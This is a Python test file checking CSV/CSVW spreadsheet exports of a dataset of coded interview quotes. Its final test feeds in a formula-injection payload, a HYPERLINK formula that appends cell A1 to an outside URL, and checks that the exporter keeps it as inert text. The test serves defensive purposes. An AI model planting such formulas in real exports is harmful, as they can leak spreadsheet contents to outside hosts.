"""The tables for spreadsheets: safe to open, described, leading back to the data."""

from __future__ import annotations

import csv
import json
import re
import shutil
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from csvw import CSVW
from pyoxigraph import Literal, NamedNode, Quad, Store

from daap.core.namespaces import DAAP, DCT, OA, PROV
from daap.tables.sheets import SHEETS
from daap.tables.spreadsheets import spreadsheet_files

BASE = "https://w3id.org/daap/"
FORMULA = tuple("=+-@\t\r\n")


def read(path: Path) -> list[dict[str, str]]:
    """The rows of a table."""
    with path.open(encoding="utf-8", newline="") as content:
        return list(csv.DictReader(content))


def described(dist: Path) -> dict[str, dict[str, Any]]:
    """The description of each table, by its file."""
    content = json.loads((dist / "tables" / "csv-metadata.json").read_bytes())
    return {table["url"]: table for table in content["tables"]}


def expanded(template: str, cells: dict[str, str]) -> str:
    """A URI template with the cells of a row (RFC 6570, level 1)."""
    return re.sub(r"\{(\w+)\}", lambda m: quote(cells[m[1]], safe=""), template)


@pytest.mark.parametrize(
    "name", ["csv-metadata.json", *(f"{s.name}.csv" for s in SHEETS)]
)
def test_an_independent_validator_accepts_the_tables(dist: Path, name: str) -> None:
    assert CSVW(str(dist / "tables" / name), validate=True).is_valid


def test_the_validator_notices_a_code_that_is_not_there(
    dist: Path, tmp_path: Path
) -> None:
    folder = Path(shutil.copytree(dist / "tables", tmp_path / "tables"))
    path = folder / "options.csv"
    path.write_text(path.read_text().replace(",control_plane,", ",no_such_code,"))
    with pytest.raises(ValueError, match="no_such_code"):
        _ = CSVW(str(folder / "csv-metadata.json"), validate=True).is_valid


@pytest.mark.parametrize("sheet", SHEETS, ids=lambda s: s.name)
def test_every_row_and_cell_leads_to_a_resource_of_the_dataset(
    dist: Path, store: Store, sheet: Any
) -> None:
    table = described(dist)[f"{sheet.name}.csv"]
    known = {
        quad.subject.value for quad in store if isinstance(quad.subject, NamedNode)
    }
    rows = read(dist / "tables" / f"{sheet.name}.csv")
    assert rows
    for row in rows:
        assert expanded(table["tableSchema"]["aboutUrl"], row) in known
        for column in table["tableSchema"]["columns"]:
            text = row[column["name"]]
            values = (
                text.split(column["separator"]) if "separator" in column else [text]
            )
            for value in filter(None, values if "valueUrl" in column else ()):
                cells = row | {column["name"]: value}
                assert expanded(column["valueUrl"], cells) in known


@pytest.mark.parametrize(
    ("name", "rows"),
    [("quotes", 20), ("codes", 203), ("attributions", 1351), ("options", 35)],
)
def test_a_table_holds_a_row_for_each_resource(
    dist: Path, name: str, rows: int
) -> None:
    assert len(read(dist / "tables" / f"{name}.csv")) == rows


def test_a_quote_stands_with_its_speaker_its_codes_and_its_place(dist: Path) -> None:
    rows = read(dist / "tables" / "quotes.csv")
    (row,) = (r for r in rows if (r["step"], r["note"]) == ("10", "2"))
    assert row["source"] == "p4"
    assert (row["anchoring"], row["speaker"]) == ("Exact", "Expert E")
    assert row["quote"] == row["text"]
    assert (row["first_line"], row["last_line"]) == ("710", "711")
    assert "containerisation" in row["codes"].split()


def test_the_tables_are_rfc_4180_in_utf_8(dist: Path) -> None:
    for sheet in SHEETS:
        content = (dist / "tables" / f"{sheet.name}.csv").read_bytes()
        assert content.startswith(",".join(c.name for c in sheet.columns).encode())
        assert content.endswith(b"\r\n")
        assert content.count(b"\r\n") > 1
        content.decode("utf-8")


def test_a_formula_in_a_note_stays_text() -> None:
    hostile = '=HYPERLINK("http://e.org/"&A1;"swarm")\r\n,"\''
    source, step = NamedNode(f"{BASE}source/b1"), NamedNode(f"{BASE}source/b1/step/1")
    note = NamedNode(f"{BASE}source/b1/step/1/note/1")
    kind = NamedNode("http://www.w3.org/1999/02/22-rdf-syntax-ns#type")
    store = Store()
    store.extend(
        Quad(subject, predicate, value)
        for subject, predicate, value in (
            (source, DCT.identifier, Literal("b1")),
            (step, DAAP.position, Literal(1)),
            (step, DAAP.inSource, source),
            (note, kind, DAAP.OpenCode),
            (note, DAAP.position, Literal(1)),
            (note, OA.bodyValue, Literal(hostile)),
            (note, DAAP.firstLine, Literal(3)),
            (note, DAAP.lastLine, Literal(4)),
            (note, DAAP.anchoring, DAAP.Unanchored),
            (note, PROV.wasGeneratedBy, step),
        )
    )
    files = dict(spreadsheet_files(store, BASE, {"title": "T", "licence": "L"}))
    out = BytesIO()
    files["tables/quotes.csv"](out)
    (row,) = csv.DictReader(StringIO(out.getvalue().decode(), newline=""))
    assert row["text"] == "'" + hostile
    assert row["codes"] == ""
